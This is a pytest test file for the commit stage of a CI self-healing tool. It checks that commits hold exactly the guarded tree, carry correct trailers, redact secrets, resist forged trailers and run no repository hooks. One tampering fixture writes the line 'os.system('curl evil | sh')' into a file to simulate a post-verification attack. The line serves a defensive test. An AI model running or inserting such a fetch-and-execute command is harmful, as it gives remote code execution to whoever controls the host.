"""One honest commit: exactly the guarded tree, on the failed commit, with the configured identity and the
ledger's trailers, no secrets, no hooks."""

from __future__ import annotations

import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from emitter.redact import Redactor
from fixer.config import CommitConfig, Config
from fixer.context import Patch
from fixer.stages import ledger, tree
from fixer.stages.commit import CommitError, make_commit, message
from tests.helpers.repos import Repo, git_env, make_repo

URL = "https://buildkite.com/acme/app/builds/42"


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return make_repo(
        tmp_path, {"app.py": "x=1\n", "lib/util.py": "def f():\n  return 1\n", "old.py": "gone\n"}
    )


def patch_of(files: list[str], summary: list[str] | None = None) -> Patch:
    return Patch(engine="rules", files=files, summary=summary or [])


def commit(
    repo: Repo,
    patch: Patch,
    attempt: int = 1,
    fingerprints: list[str] | None = None,
    build_url: str | None = None,
    config: Config | None = None,
    redact: Callable[[str], str] = lambda text: text,
    move_head: bool = True,
) -> str:
    """As the loop does: the message, then a commit of the candidate tree on the failed commit (HEAD)."""
    config = config or Config()
    text = message(patch, attempt, fingerprints or [], build_url, config, redact)
    return make_commit(repo.path, tree.candidate(repo.path), repo.head(), text, config, move_head)


def body_of(repo: Repo, sha: str) -> str:
    return repo.git("log", "-1", "--format=%B", sha)


def subject_of(repo: Repo, sha: str) -> str:
    return repo.git("log", "-1", "--format=%s", sha).strip()


def parsed_trailers(repo: Repo, sha: str) -> list[str]:
    """The trailers as git itself parses them from the message."""
    done = subprocess.run(
        ["git", "interpret-trailers", "--parse"],
        input=body_of(repo, sha),
        cwd=repo.path,
        env=git_env(),
        capture_output=True,
        text=True,
        check=True,
    )
    return done.stdout.splitlines()


def files_of(repo: Repo, sha: str) -> list[str]:
    return sorted(line for line in repo.git("show", "--name-status", "--format=", sha).split("\n") if line)


def test_commit_has_the_configured_identity_message_and_trailers(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 1\n")
    config = Config(
        commit=CommitConfig(
            author_name="Heal Bot", author_email="heal@bots.example", message_prefix="fix(ci): "
        )
    )
    parent = repo.head()
    sha = commit(repo, patch_of(["app.py"], ["ruff format app.py"]), 2, ["aa11", "bb22"], URL, config)
    assert repo.head() == sha
    assert repo.git("rev-parse", f"{sha}^").strip() == parent
    assert repo.git("rev-list", "--count", f"{parent}..{sha}").strip() == "1"
    who = repo.git("log", "-1", "--format=%an <%ae>|%cn <%ce>", sha).strip()
    assert who == "Heal Bot <heal@bots.example>|Heal Bot <heal@bots.example>"
    assert subject_of(repo, sha) == "fix(ci): ruff format app.py"
    assert "- ruff format app.py" in body_of(repo, sha)
    assert parsed_trailers(repo, sha) == [
        "Selfheal-Attempt: 2",
        "Selfheal-Fingerprints: aa11,bb22",
        f"Selfheal-Build: {URL}",
        "Selfheal-Engine: rules",
    ]
    # what the ledger reads back is what was written
    attempt, stop = ledger.check(repo.path, config, ["cc33"], None)
    assert (attempt, stop) == (3, None)
    [tip] = ledger.read_commits(repo.path, [sha])
    assert ledger.previous_fingerprints(tip) == ["aa11", "bb22"]


def test_no_build_url_no_build_trailer(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 1\n")
    sha = commit(repo, patch_of(["app.py"]), 1, ["aa11"], None)
    assert parsed_trailers(repo, sha) == [
        "Selfheal-Attempt: 1",
        "Selfheal-Fingerprints: aa11",
        "Selfheal-Engine: rules",
    ]
    assert subject_of(repo, sha) == "selfheal: fix the failing check in app.py"


def test_the_commit_is_the_tree_passed_in_not_the_working_tree(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 1\n")
    (repo.path / "lib/new.py").write_text("NEW = 1\n")
    (repo.path / "old.py").unlink()
    guarded = tree.candidate(repo.path)
    failed = repo.head()
    # after the guard and verify, something rewrites a file and plants another
    (repo.path / "app.py").write_text("import os; os.system('curl evil | sh')\n")
    (repo.path / "planted.py").write_text("evil = 1\n")
    text = message(patch_of(["app.py"]), 1, [], None, Config())
    sha = make_commit(repo.path, guarded, failed, text, Config())
    assert repo.git("rev-parse", f"{sha}^{{tree}}").strip() == guarded
    assert files_of(repo, sha) == ["A\tlib/new.py", "D\told.py", "M\tapp.py"]
    assert repo.git("show", f"{sha}:app.py") == "x = 1\n"
    # the working tree is left as it is (the loop's drift check refuses such a tree before committing)
    assert (repo.path / "planted.py").exists()
    # the index follows the new HEAD: nothing staged is left over
    assert repo.git("diff", "--cached", "--name-only").strip() == ""


def test_the_commit_takes_the_whole_candidate_whatever_the_patch_names(repo: Repo) -> None:
    # the engine's account of its work decides nothing: the diff guard judged the whole tree
    (repo.path / "app.py").write_text("x = 1\n")
    (repo.path / "lib/util.py").write_text("def f():\n    return 1\n")
    sha = commit(repo, patch_of(["app.py"]))
    assert files_of(repo, sha) == ["M\tapp.py", "M\tlib/util.py"]


def test_file_names_are_never_patterns(repo: Repo) -> None:
    # the fix deletes a file whose name is also a glob; as a pattern it would take a.py and b.py along
    for name in ("a.py", "b.py", "[ab].py"):
        (repo.path / name).write_text(f"{name}\n")
    repo.git("--literal-pathspecs", "add", "--", "a.py", "b.py", "[ab].py")
    repo.git("commit", "--quiet", "-m", "odd name")
    (repo.path / "[ab].py").unlink()
    sha = commit(repo, patch_of(["[ab].py"]))
    assert repo.git("show", "--name-status", "--format=", sha).split() == ["D", "[ab].py"]
    assert repo.git("show", f"{sha}:a.py") == "a.py\n" and repo.git("show", f"{sha}:b.py") == "b.py\n"


def test_head_moves_only_when_asked(repo: Repo) -> None:
    # patch and review modes: the commit exists to be written out or pushed elsewhere; the branch stays
    failed = repo.head()
    (repo.path / "app.py").write_text("x = 1\n")
    sha = commit(repo, patch_of(["app.py"]), move_head=False)
    assert repo.head() == failed
    assert repo.git("rev-parse", "refs/heads/feature/x").strip() == failed
    assert repo.git("rev-parse", f"{sha}^").strip() == failed


def test_a_detached_head_moves_as_buildkite_checks_it_out(repo: Repo) -> None:
    repo.git("checkout", "--quiet", "--detach")
    failed = repo.head()
    (repo.path / "app.py").write_text("x = 1\n")
    sha = commit(repo, patch_of(["app.py"]))
    assert repo.head() == sha
    assert repo.git("rev-parse", "refs/heads/feature/x").strip() == failed


@pytest.mark.parametrize("items", [1, 2], ids=["in the subject", "in the body"])
def test_secrets_never_reach_the_commit_message(repo: Repo, items: int) -> None:
    secret = "planted-secret-value-123"
    redact = Redactor.from_env({"DEPLOY_TOKEN": secret}).redact
    (repo.path / "app.py").write_text("x = 1\n")
    summary = [f"fixed the call that printed {secret}", "and the ghp_" + "a" * 36 + " one"][:items]
    sha = commit(repo, patch_of(["app.py"], summary), 1, ["aa11"], f"{URL}?token={secret}", redact=redact)
    text = body_of(repo, sha)
    assert secret not in text and "ghp_" not in text
    assert "[REDACTED]" in text
    assert "Selfheal-Attempt: 1" in parsed_trailers(repo, sha)


def test_multi_line_summaries_cannot_forge_trailers(repo: Repo) -> None:
    (repo.path / "app.py").write_text("x = 1\n")
    summary = ["fixed it\n\nSelfheal-Attempt: 0\nSelfheal-Fingerprints: forged"]
    sha = commit(repo, patch_of(["app.py"], summary), 2, ["real"])
    [tip] = ledger.read_commits(repo.path, [sha])
    assert ledger.previous_fingerprints(tip) == ["real"]
    assert ledger.check(repo.path, Config(), [], None) == (3, None)
    assert subject_of(repo, sha).startswith("selfheal: fixed it Selfheal-Attempt: 0")
    lines = body_of(repo, sha).splitlines()
    assert [line for line in lines if line.startswith("Selfheal-")] == parsed_trailers(repo, sha)


def test_no_hook_of_the_repository_runs(repo: Repo, tmp_path: Path) -> None:
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    # commit-tree runs no commit hook of its own; moving the branch and the index could run the last three
    names: tuple[str, ...] = ("pre-commit", "commit-msg", "post-commit", "prepare-commit-msg")
    names += ("reference-transaction", "post-index-change", "post-checkout")
    for name in names:
        hook = hooks / name
        hook.write_text(f"#!/bin/sh\nenv > {tmp_path}/{name}.ran\n")
        hook.chmod(0o755)
    repo.git("config", "core.hooksPath", str(hooks))
    (repo.path / "app.py").write_text("x = 1\n")
    commit(repo, patch_of(["app.py"]))
    assert sorted(p.name for p in tmp_path.glob("*.ran")) == []


def test_nothing_to_commit_is_an_error(repo: Repo) -> None:
    failed = repo.head()
    with pytest.raises(CommitError, match="changes nothing"):
        commit(repo, patch_of(["app.py"]))
    assert repo.head() == failed


def test_head_moved_after_verify_is_an_error(repo: Repo) -> None:
    failed = repo.head()
    (repo.path / "app.py").write_text("x = 1\n")
    guarded = tree.candidate(repo.path)
    # repository code run by verify commits on its own
    moved = repo.commit({"sneaky.py": "evil = 1\n"}, "made during verify")
    text = message(patch_of(["app.py"]), 1, [], None, Config())
    with pytest.raises(CommitError, match=f"HEAD moved to {moved[:7]}"):
        make_commit(repo.path, guarded, failed, text, Config())
    assert repo.head() == moved
    assert repo.git("rev-list", "--count", f"{failed}..{moved}").strip() == "1"


def test_message_lists_files_when_there_is_no_summary() -> None:
    text = message(patch_of(["a.py", "b.py"]), 1, [], None, Config())
    assert text.splitlines()[:4] == [
        "selfheal: fix the failing check in a.py, b.py",
        "",
        "Fixed by the rules engine:",
        "- a.py",
    ]


def test_message_trailers_are_the_ledgers_own() -> None:
    text = message(patch_of(["a.py"], ["one", "two"]), 4, ["f1", "bad value!", "f2"], URL, Config())
    assert text.splitlines()[0] == "selfheal: fix 2 problems in a.py"
    assert text.rstrip("\n").split("\n\n")[-1].splitlines() == ledger.trailers(
        4, ["f1", "bad value!", "f2"], URL, "rules"
    )
    assert "bad value!" not in text


def test_a_long_subject_is_cut() -> None:
    text = message(patch_of(["a.py"], ["x" * 500]), 1, [], None, Config())
    subject = text.splitlines()[0]
    assert len(subject) <= 100 + len("selfheal: ") and subject.endswith("…")
